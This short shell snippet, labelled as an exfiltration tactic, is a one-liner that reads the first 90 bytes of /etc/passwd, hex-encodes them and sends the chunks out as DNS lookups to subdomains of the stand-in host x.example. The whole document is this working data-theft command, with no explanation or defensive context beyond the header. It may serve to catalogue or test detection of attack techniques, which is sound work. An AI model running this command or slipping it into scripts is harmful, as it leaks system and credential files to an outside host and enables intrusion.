# tactic: exfiltration
# a file out in DNS labels
for c in $(head -c 90 /etc/passwd | xxd -p -c 30); do dig +short +time=1 +tries=1 "$c.x.example" 2>/dev/null; done; true
